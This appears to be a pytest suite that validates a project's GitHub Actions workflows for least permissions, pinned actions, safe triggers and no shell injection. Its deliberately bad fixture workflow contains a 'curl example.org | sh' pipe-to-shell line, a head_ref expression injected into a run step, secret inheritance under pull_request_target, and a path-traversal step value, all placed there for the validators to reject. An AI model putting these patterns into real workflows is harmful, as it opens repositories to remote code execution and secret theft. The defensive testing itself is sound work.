"""Rules for the public workflows: the scripts of CI, least permissions, pinned actions, no untrusted text in shells.

A made-up workflow that violates all of these rules must be reported.
"""

from __future__ import annotations

import re
import tomllib
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from studydeck.cli.main import main

ROOT = Path(__file__).parents[2]
CI = ROOT / ".ci"
# The permissions of each job.
PERMISSIONS: Mapping[str, Mapping[str, str]] = {
    "ci.check": {"contents": "read"},
    "ci.systems": {"contents": "read"},
    "cards.deck": {"contents": "write", "id-token": "write", "attestations": "write", "pages": "write"},
    "anki.rehearse": {"contents": "read"},
    "mathjax.commands": {"contents": "read"},
    "site.build": {"contents": "read"},
    "site.deploy": {"pages": "write", "id-token": "write"},
    "tool.build": {"contents": "read"},
    "tool.installs": {"contents": "read"},
    "tool.publish": {"id-token": "write", "attestations": "write"},
    "tool.release": {"contents": "write"},
    "deck.report": {"contents": "read"},
    "deck.ledger": {"contents": "read"},
    "deck.push-ledger": {"contents": "write"},
    "deck.build": {"contents": "read"},
    "deck.reproduce": {"contents": "read"},
    "deck.attest": {"id-token": "write", "attestations": "write"},
    "deck.publish": {"contents": "write"},
    "deck.pages": {"pages": "write", "id-token": "write"},
}
TOOL = "./tool"
# With these triggers, code from a fork runs with the permissions and secrets of the repository.
UNSAFE_TRIGGERS = {"pull_request_target", "workflow_run", "issue_comment", "issues"}
CALL = re.compile(r'"?(?:tool/|\$GITHUB_ACTION_PATH/)?\.ci/(run|(?:steps|deck)/[\w$-]+)"?')
PINNED = re.compile(r"[\w-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
ON: Any = True  # YAML reads the key `on` as true

Texts = Mapping[str, str]


def workflows() -> dict[str, str]:
    """Return the workflow texts by name."""
    texts = {path.stem: path.read_text("utf-8") for path in (ROOT / ".github" / "workflows").iterdir()}
    assert set(texts) >= {"ci", "cards", "deck"}
    return texts


def action() -> str:
    """Return the text of action.yml."""
    return (ROOT / "action.yml").read_text("utf-8")


def jobs(texts: Texts) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield every job as `<workflow>.<job>`."""
    for name, text in texts.items():
        for key, job in yaml.safe_load(text)["jobs"].items():
            yield f"{name}.{key}", job


def steps(texts: Texts) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield every step of every job."""
    for name, job in jobs(texts):
        for step in job.get("steps", ()):
            yield name, step


def scripts_run_by_ci() -> set[str]:
    """Return the scripts that `.ci/run` runs, directly or through another script."""
    reachable, pending = {"run"}, ["run"]
    while pending:
        lines = (CI / pending.pop()).read_text("utf-8").splitlines()
        called = {
            f"{match[1]}/{match[2]}"
            for line in lines
            if (match := re.match(r'\s*(?:[A-Z]+=\S+ )*"?(?:\.ci|\$here)/(steps|deck)/([\w-]+)', line))
        }
        pending += sorted(called - reachable)
        reachable |= called
    return reachable


def unknown_commands(texts: Texts, known_scripts: set[str]) -> Iterator[str]:
    """Yield commands, and steps of the action, that CI does not run."""
    for name, step in steps(texts):
        if "run" in step:
            match = CALL.fullmatch(step["run"].strip())
            if not match or match[1] not in known_scripts:
                yield f"{name} runs {step['run'].strip()}"
        if step.get("uses") == TOOL and f"deck/{step.get('with', {}).get('step')}" not in known_scripts:
            yield f"{name} takes the step {step.get('with', {}).get('step')}"


def inserted_expressions(texts: Texts) -> Iterator[str]:
    """Yield scripts that contain an expression; values must be passed by the environment."""
    for name, step in steps(texts):
        if "${{" in step.get("run", ""):
            yield f"{name} inserts an expression into {step['run'].strip()}"


def unpinned_actions(texts: Texts) -> Iterator[str]:
    """Yield actions that are not pinned by a hash and a version comment, or by two different hashes."""
    pins: dict[str, str] = {}
    for name, text in texts.items():
        for reference in re.findall(r"uses: *(.+?) *$", text, re.MULTILINE):
            if reference.startswith("./"):
                continue
            if not PINNED.fullmatch(reference):
                yield f"{name} uses {reference}"
            elif pins.setdefault(reference.split("@")[0], reference) != reference:
                yield f"{name} uses another {reference.split('@')[0]}"


def excess_permissions(texts: Texts, permissions: Mapping[str, Mapping[str, str]]) -> Iterator[str]:
    """Yield excess permissions, persisted credentials, jobs without a timeout, and unsafe triggers."""
    for name, text in texts.items():
        workflow = yaml.safe_load(text)
        if workflow.get("permissions") != {}:
            yield f"{name} has permissions"
        yield from (f"{name} runs on {trigger}" for trigger in sorted(UNSAFE_TRIGGERS & set(workflow[ON])))
    for name, job in jobs(texts):
        if job.get("permissions") != permissions.get(name, {}):
            yield f"{name} has other permissions"
        if "steps" in job and "timeout-minutes" not in job:
            yield f"{name} has no timeout"
        if "secrets" in job:
            yield f"{name} passes secrets"
    for name, step in steps(texts):
        if (
            step.get("uses", "").startswith("actions/checkout@")
            and step.get("with", {}).get("persist-credentials") is not False
        ):
            yield f"{name} keeps credentials"
        if step.get("uses") == TOOL and "write" in permissions.get(name, {}).values():
            yield f"{name} installs packages where it may write"


def test_ci_runs_every_step() -> None:
    """Every script of .ci is run by .ci/run."""
    written = {path.relative_to(CI).as_posix() for folder in ("steps", "deck") for path in (CI / folder).iterdir()}
    assert len(written) > 10
    assert written == scripts_run_by_ci() - {"run"}


def test_every_command_of_a_workflow_is_run_by_ci() -> None:
    """A workflow's shell command is only the name of a script that CI also runs."""
    assert sum("run" in step for _, step in steps(workflows())) >= 3
    assert list(unknown_commands(workflows(), scripts_run_by_ci())) == []


def test_every_command_of_the_action_is_run_by_ci() -> None:
    """The action installs with the script of CI, and then runs the requested script of .ci/deck."""
    definition = yaml.safe_load(action())
    assert [step["run"] for step in definition["runs"]["steps"] if "run" in step] == [
        '"$GITHUB_ACTION_PATH/.ci/steps/environment"',
        '"$GITHUB_ACTION_PATH/.ci/deck/$STEP"',
    ]
    described = re.findall(r"\w+", definition["inputs"]["step"]["description"].split(";")[0].removeprefix("One of "))
    assert sorted(described) == sorted(path.name for path in (CI / "deck").iterdir())
    assert definition["inputs"]["step"]["default"] in described


def test_workflows_pass_only_known_inputs_to_the_action() -> None:
    """No workflow passes an input that the action does not define."""
    inputs = set(yaml.safe_load(action())["inputs"])
    passed = [set(step["with"]) for _, step in steps(workflows()) if step.get("uses") == TOOL]
    assert len(passed) >= 4
    assert all(names <= inputs for names in passed)


def test_no_expression_is_inserted_into_a_script() -> None:
    """Branches, titles and tags are passed to a script by its environment only."""
    assert "${{" in workflows()["deck"]
    assert list(inserted_expressions(workflows())) == []
    assert not any("${{" in step.get("run", "") for step in yaml.safe_load(action())["runs"]["steps"])


def test_actions_are_pinned() -> None:
    """Every action is pinned by one hash, with its version in a comment."""
    assert list(unpinned_actions(workflows() | {"action": action()})) == []


def test_permissions_are_minimal() -> None:
    """A workflow has no permissions; a job has those of the table, and installs nothing if it may write."""
    assert {name for name, _ in jobs(workflows())} == set(PERMISSIONS)
    assert list(excess_permissions(workflows(), PERMISSIONS)) == []


def test_a_release_runs_all_checks_first() -> None:
    """A release is published only after rehearsal, reproduction on two systems and two Pythons, and attestation."""
    definitions = dict(jobs(workflows()))
    assert [step["with"]["step"] for step in definitions["deck.build"]["steps"] if step.get("uses") == TOOL] == [
        "publishable",
        "rehearse",
    ]
    needs = {
        name.removeprefix("deck."): job["needs"]
        for name, job in definitions.items()
        if name.startswith("deck.") and "needs" in job
    }
    assert needs == {
        "push-ledger": "ledger",
        "reproduce": "build",
        "attest": "reproduce",
        "publish": "attest",
        "pages": "publish",
    }
    matrix = definitions["deck.reproduce"]["strategy"]["matrix"]
    assert len({system.split("-")[0] for system in matrix["system"]}) >= 2
    assert len(set(matrix["python"])) >= 2
    assert definitions["deck.build"]["if"] == "github.ref_type == 'tag'"


def test_the_published_files_are_those_that_were_tested() -> None:
    """The tool is built once; one job may sign, after these files were installed on three systems and four Pythons."""
    tool = {name.removeprefix("tool."): job for name, job in jobs(workflows()) if name.startswith("tool.")}
    assert {name: job.get("needs") for name, job in tool.items()} == {
        "build": None,
        "installs": "build",
        "publish": "installs",
        "release": "publish",
    }
    assert [name for name, job in tool.items() if "id-token" in job["permissions"]] == ["publish"]
    assert tool["publish"]["environment"] == "pypi"
    assert not any("run" in step for step in tool["publish"]["steps"])
    matrix = tool["installs"]["strategy"]["matrix"]
    assert {system.split("-")[0] for system in matrix["system"]} == {"ubuntu", "windows", "macos"}
    assert matrix["python"] == ["3.11", "3.12", "3.13", "3.14"]
    for name in ("installs", "publish", "release"):
        (download,) = (step for step in tool[name]["steps"] if "download-artifact" in step.get("uses", ""))
        assert download["with"] == {"name": "distribution", "path": "distribution"}
    built = [step["run"] for job in tool.values() for step in job["steps"] if "run" in step]
    assert built.count(".ci/steps/distribution") == 1


def test_tags_of_the_tool_and_of_the_deck_start_different_workflows() -> None:
    """The tool has v*, as `pre-commit autoupdate` and Dependabot expect; the deck has the prefix of its settings."""
    texts = workflows()
    prefix = tomllib.loads((ROOT / "notes" / "deck.toml").read_text("utf-8"))["tag-prefix"]
    assert yaml.safe_load(texts["tool"])[ON]["push"] == {"tags": ["v*"]}
    assert yaml.safe_load(texts["cards"])[ON]["push"] == {"tags": [f"{prefix}*"]}
    assert not prefix.startswith("v")


def test_the_tests_run_on_three_systems() -> None:
    """All tests run on Linux, Windows and macOS, each with the oldest and a newer Python, in bash."""
    definitions = dict(jobs(workflows()))
    check, systems = definitions["ci.check"], definitions["ci.systems"]
    tested = {check["runs-on"], *systems["strategy"]["matrix"]["system"]}
    assert {system.split("-")[0] for system in tested} == {"ubuntu", "windows", "macos"}
    for job in (check, systems):
        pythons = job["strategy"]["matrix"]["python"]
        assert "3.11" in pythons
        assert len(pythons) >= 2
    (step,) = (step for step in systems["steps"] if "run" in step)
    assert (step["run"], step["shell"]) == (".ci/steps/readme", "bash")
    assert "readme" in (CI / "run").read_text("utf-8")
    assert "python -m pytest" in (ROOT / "README.md").read_text("utf-8").split("```")[1]


def test_scripts_that_run_on_macos_need_no_newer_bash() -> None:
    """MacOS has bash 3.2: no mapfile, no associative arrays, no case conversion in expansions."""
    script = (CI / "steps" / "readme").read_text("utf-8")
    assert not re.search(r"\b(?:mapfile|readarray|declare -A|coproc)\b|\$\{\w+[,^]", script)


def test_the_guide_shows_the_workflow_of_this_repository() -> None:
    """The workflow in the guide is that of this repository except for its tags and pages; it has at most ten lines."""
    guide = (ROOT / "docs" / "how-to" / "github.md").read_text("utf-8")
    example = guide.split("```yaml .github/workflows/cards.yml\n")[1].split("```")[0]
    actual = re.sub(r"\n    with: \{pages: false\}.*", "", workflows()["cards"])
    assert len(example.splitlines()) <= 10
    adapted = re.sub(r"uses: OWNER/studydeck/(\S+)@COMMIT.*", r"uses: ./\1", example)
    prefix = tomllib.loads((ROOT / "notes" / "deck.toml").read_text("utf-8"))["tag-prefix"]
    assert adapted.replace('"v*"', f'"{prefix}*"') == actual


def test_the_template_for_gitlab_runs_what_ci_runs() -> None:
    """Its jobs call scripts that CI runs, with the variables that they need; it says that no pipeline has run it."""
    text = (ROOT / "deck.gitlab-ci.yml").read_text("utf-8")
    assert "# NOT RUN:" in text
    template = yaml.safe_load(text)
    jobs_with_scripts = {name: job for name, job in template.items() if "script" in job}
    assert set(jobs_with_scripts) == {"deck-report", "deck-build", "deck-reproduce", "deck-release"}
    prepared = template[".studydeck"]["before_script"]
    assert "/tmp/studydeck/.ci/steps/environment" in prepared
    for job in jobs_with_scripts.values():
        variables = {*template["variables"], *job.get("variables", ())}
        for script in re.findall(r"^/tmp/studydeck/\.ci/(\S+)$", "\n".join(job["script"]), re.MULTILINE):
            assert script in scripts_run_by_ci()
            assert set(re.findall(r"\$\{([A-Z_]+):\?", (CI / script).read_text("utf-8"))) <= variables
        if "extends" in job and ".studydeck" in job["extends"]:
            assert all(line.startswith("/tmp/studydeck/.ci/deck/") for line in job["script"])


def test_the_hooks_run_existing_commands() -> None:
    """Each pre-commit hook runs a command of the program if notes, settings or pictures change."""
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text("utf-8"))
    assert [hook["id"] for hook in hooks] == ["studydeck-check", "studydeck-build"]
    for hook in hooks:
        program, command = hook["entry"].split()
        assert (program, hook["language"], hook["pass_filenames"]) == ("studydeck", "python", False)
        assert command in main.commands
        for path in ("notes/tea.md", "deck.toml", "notes/ledger.jsonl", "notes/cup.png"):
            assert re.search(hook["files"], path)
        assert not re.search(hook["files"], "README.txt")


BAD_WORKFLOW = """
on: [pull_request_target]
permissions: {contents: write}
jobs:
  bad:
    runs-on: ubuntu-24.04
    secrets: inherit
    permissions: {packages: write}
    steps:
      - uses: actions/checkout@v6
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd
        with: {persist-credentials: true}
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with: {persist-credentials: false}
      - uses: actions/checkout@ce0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.3
        with: {persist-credentials: false}
      - run: curl example.org | sh
      - run: .ci/steps/lint && .ci/steps/nothing
      - run: .ci/steps/nothing
      - run: .ci/steps/lint ${{ github.head_ref }}
      - uses: ./tool
        with: {step: ../../anything}
"""


@pytest.mark.parametrize(
    ("check", "expected"),
    [
        (
            unknown_commands,
            [
                "bad.bad runs curl example.org | sh",
                "bad.bad runs .ci/steps/lint && .ci/steps/nothing",
                "bad.bad runs .ci/steps/nothing",
                "bad.bad runs .ci/steps/lint ${{ github.head_ref }}",
                "bad.bad takes the step ../../anything",
            ],
        ),
        (inserted_expressions, ["bad.bad inserts an expression into .ci/steps/lint ${{ github.head_ref }}"]),
        (
            unpinned_actions,
            [
                "bad uses actions/checkout@v6",
                "bad uses actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd",
                "bad uses another actions/checkout",
            ],
        ),
        (
            excess_permissions,
            [
                "bad has permissions",
                "bad runs on pull_request_target",
                "bad.bad has other permissions",
                "bad.bad has no timeout",
                "bad.bad passes secrets",
                "bad.bad keeps credentials",
                "bad.bad keeps credentials",
                "bad.bad installs packages where it may write",
            ],
        ),
    ],
)
def test_a_workflow_that_violates_the_rules_is_reported_rejected(check: Any, expected: list[str]) -> None:
    """Unknown commands, inserted expressions, missing pins and excess permissions are reported."""
    extra_arguments: dict[Any, tuple[Any, ...]] = {
        unknown_commands: (scripts_run_by_ci(),),
        excess_permissions: ({"bad.bad": {"contents": "write"}},),
    }
    assert list(check({"bad": BAD_WORKFLOW}, *extra_arguments.get(check, ()))) == expected
